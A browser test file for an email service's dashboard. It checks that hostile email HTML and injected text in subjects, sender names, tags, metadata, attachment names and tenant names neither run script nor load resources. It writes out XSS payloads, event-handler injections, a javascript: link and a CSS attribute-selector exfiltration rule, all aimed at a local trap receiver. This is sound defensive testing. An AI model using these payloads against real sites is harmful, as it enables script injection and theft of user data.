/** Text and HTML written by strangers, shown on the dashboard's pages: no script runs and no resource is loaded. */
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { cookieOf, fromOurPages, invite, useLink } from '../dashboard/signed-in-browser.ts'
import type { Service } from '../support/in-process-service.ts'
import { type Receiver, startReceiver } from '../support/webhook-receiver.ts'
import { hasChromium, openPage, startBrowser, startDashboardService, type Watched } from './chromium.ts'

let service: Service
let browser: Browser
let trap: Receiver
let watched: Watched
beforeAll(async () => {
  if (!hasChromium) return
  trap = await startReceiver()
  service = await startDashboardService()
  browser = await startBrowser()
  watched = await openPage(browser, service, { width: 1440, theme: 'light' })
  const session = await useLink(service, await invite(service, 'owner@house.test', 'owner'))
  const [name = '', value = ''] = cookieOf(session).split('=')
  await watched.context.addCookies([{ name, value, url: watched.origin, httpOnly: true, sameSite: 'Strict' }])
})
afterAll(async () => {
  if (!hasChromium) return
  await browser.close()
  await service.stop()
  await trap[Symbol.asyncDispose]()
})

const attacks = (url: string) => `<!doctype html><html><head>
<base href="${url}/base/" target="_top">
<meta http-equiv="refresh" content="0;url=${url}/refresh">
<link rel="stylesheet" href="${url}/style.css"><link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}"><link rel="prefetch" href="${url}/prefetch">
<style>@import url("${url}/import.css"); body { background: url(${url}/background) } input[value^="a"] { background: url(${url}/exfiltrated) } @font-face { font-family: x; src: url(${url}/font) } p { font-family: x }</style>
<script>parent.pwned = 1; fetch("${url}/script")</script><script src="${url}/script.js"></script>
</head><body onload="parent.pwned = 2">
<p>The hostile mail</p>
<img src="${url}/pixel.gif"><img src=x onerror="parent.pwned = 3"><picture><source srcset="${url}/set"><img></picture>
<svg onload="parent.pwned = 4"><script>parent.pwned = 5</script><image href="${url}/svg-image"/><use href="${url}/use#x"/></svg>
<iframe src="${url}/frame"></iframe><object data="${url}/object"></object><embed src="${url}/embed"><video src="${url}/video" poster="${url}/poster" autoplay></video><audio src="${url}/audio" autoplay></audio>
<form action="${url}/form"><input name="a" value="abc"><button id="send">Send</button></form>
<a id="script" href="javascript:parent.pwned = 6">script</a> <a id="top" href="${url}/top" target="_top">top</a> <a id="blank" href="${url}/blank" target="_blank" ping="${url}/ping">blank</a> <a id="same" href="${url}/same">same</a>
<math><mtext><img src=x onerror="parent.pwned = 7"></mtext></math><template><script>parent.pwned = 8</script></template>
</body></html>`

const inText = (url: string) => `"><img src=x onerror="window.pwned=1"><script>window.pwned=2</script><img src=${url}/text>{{7*7}}\u202E`

describe.skipIf(!hasChromium)('what a stranger wrote', () => {
  test('as HTML of a mail is shown without running, fetching or going anywhere, whatever is clicked', async () => {
    const sent = await service.call('POST', '/emails', {
      key: service.testKey,
      body: { from: 'a@simulator.test', to: ['delivered@simulator.test'], subject: 'Hostile', html: attacks(trap.url) },
    })
    const { id } = sent.body.data as { id: string }
    const { page, context, origin } = watched
    await page.goto(`/emails/${id}`)
    const frame = page.frameLocator('iframe')
    await frame.getByText('The hostile mail').waitFor()
    await service.wait(500)
    expect(trap.connections()).toBe(0)
    for (const selector of ['#script', '#top', '#blank', '#same', '#send']) {
      await frame.locator(selector).click()
      await service.wait(200)
      expect(await page.evaluate('window.pwned'), selector).toBeUndefined()
      expect(context.pages()).toHaveLength(1)
      expect(page.url()).toBe(`${origin}/emails/${id}`)
      // After a click that led nowhere, the frame may show the browser's own error page instead of the mail.
      await page.reload()
      await frame.getByText('The hostile mail').waitFor()
    }
    // A browser may open a connection when a link is pressed, ahead of the request; the request itself is not made.
    expect(trap.received.map(({ path }) => path)).toEqual([])
  })

  test('opened as a page of its own does as little, and without a frame is not shown at all', async () => {
    const { page } = watched
    const { data } = (await service.call('GET', '/emails', { key: service.testKey })).body
    const answer = await page.goto(`/dashboard/api/emails/${(data as { id: string }[])[0]?.id}/preview`)
    expect(answer?.status()).toBe(401)
  })

  test('as subject, name, tag, metadata, address or user agent is text on every page', async () => {
    const text = inText(trap.url)
    const sent = await service.call('POST', '/emails', {
      key: service.testKey,
      headers: { 'user-agent': text.replace(/[^\x20-\x7e]/g, '') },
      body: {
        from: `"<script>window.pwned=3</script>" <a@simulator.test>`,
        to: [`"<img/src=x/onerror=window.pwned=1>"@simulator.test`],
        subject: text,
        text,
        tag: '<script>window.pwned=4</script>',
        metadata: { name: text },
        attachments: [
          {
            filename: '<img src=x onerror=pwned=1>.html',
            contentType: 'text/html',
            content: Buffer.from('<script>parent.pwned=1</script>').toString('base64'),
          },
        ],
      },
    })
    expect(sent.status, sent.text).toBe(200)
    const { id } = sent.body.data as { id: string }
    await service.call('POST', '/suppressions', { key: service.testKey, body: { address: 'x@example.org', reason: text } })
    await service.call('POST', '/webhooks', {
      key: service.testKey,
      body: { name: text.slice(0, 100), url: 'https://example.com/', allEvents: true },
    })
    const { page, complaints } = watched
    complaints.length = 0
    await service.call('POST', '/tenants', { key: service.liveKey, body: { name: '<img src=x onerror="window.pwned=9">' } })
    const places = 'emails suppressions logs webhooks keys domains members queue tenants usage inbox tracking audit settings'.split(' ')
    for (const path of ['/', `/emails/${id}`, `/inbox?open=${id}`, ...places.map((name) => `/${name}`)]) {
      await page.goto(path)
      await page.getByRole('heading', { level: 1 }).waitFor()
      // Pages that follow the event stream never become idle.
      await page.waitForLoadState('networkidle', { timeout: 3000 }).catch(() => undefined)
      expect(await page.evaluate('window.pwned'), path).toBeUndefined()
    }
    await page.goto(`/emails/${id}`)
    for (const form of ['Text', 'Headers', 'Raw', 'Parts', 'Attachments', 'Checks']) {
      await page.getByRole('tab', { name: form, exact: true }).click()
      await service.wait(200)
    }
    await page.goto(`/emails?status=${encodeURIComponent(text)}&to=${encodeURIComponent(text)}`)
    await page.getByRole('alert').waitFor()
    expect(await page.evaluate('window.pwned')).toBeUndefined()
    expect(trap.received).toEqual([])
    expect(complaints.filter((one) => !one.includes('400 (Bad Request)'))).toEqual([])
  })

  test('the cookie is not to be read by any script', async () => {
    const { page } = watched
    await page.goto('/emails')
    expect(await page.evaluate('document.cookie')).toBe('')
    expect(fromOurPages['sec-fetch-site']).toBe('same-origin')
  })
})
